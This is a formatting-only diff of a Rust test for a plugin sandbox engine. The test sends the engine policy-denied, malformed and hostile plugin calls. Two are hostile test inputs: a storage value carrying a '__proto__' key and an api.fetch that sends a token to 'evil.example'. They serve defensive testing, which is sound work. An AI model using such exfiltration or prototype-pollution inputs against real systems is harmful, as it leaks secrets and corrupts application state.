@@ -783,19 +783,31 @@ fn session(e: &mut Engine<MemoryBackend>) -> Vec<Vec<Effect>> {
     install(e, manifest(APP, json!({})), None);
     e.begin_mount(APP, iframe(), T).expect("installed");
     let mut out = vec![e.handshake(APP, hello(NONCE), T)];
-    out.push(e.receive(APP, call(1, "storage.set", json!({ "key": "k", "value": 1 })), T));
+    out.push(e.receive(
+        APP,
+        call(1, "storage.set", json!({ "key": "k", "value": 1 })),
+        T,
+    ));
     out.push(e.receive(APP, call(2, "storage.get", json!({ "key": "k" })), T));
     // Denied by policy (no `ui:render`), malformed, and a forbidden key.
     out.push(e.receive(APP, call(3, "ui.render", json!({ "html": "<b>x</b>" })), T));
     out.push(e.receive(APP, Incoming::json("{\"v\":1,\"id\":4,"), T));
     out.push(e.receive(
         APP,
-        call(5, "storage.set", json!({ "key": "k", "value": { "__proto__": {} } })),
+        call(
+            5,
+            "storage.set",
+            json!({ "key": "k", "value": { "__proto__": {} } }),
+        ),
         T,
     ));
     out.push(e.receive(
         APP,
-        call(6, "api.fetch", json!({ "url": "https://evil.example/?token=s3cr3t" })),
+        call(
+            6,
+            "api.fetch",
+            json!({ "url": "https://evil.example/?token=s3cr3t" }),
+        ),
         T,
     ));
     // A refused handshake has no plugin message behind it.
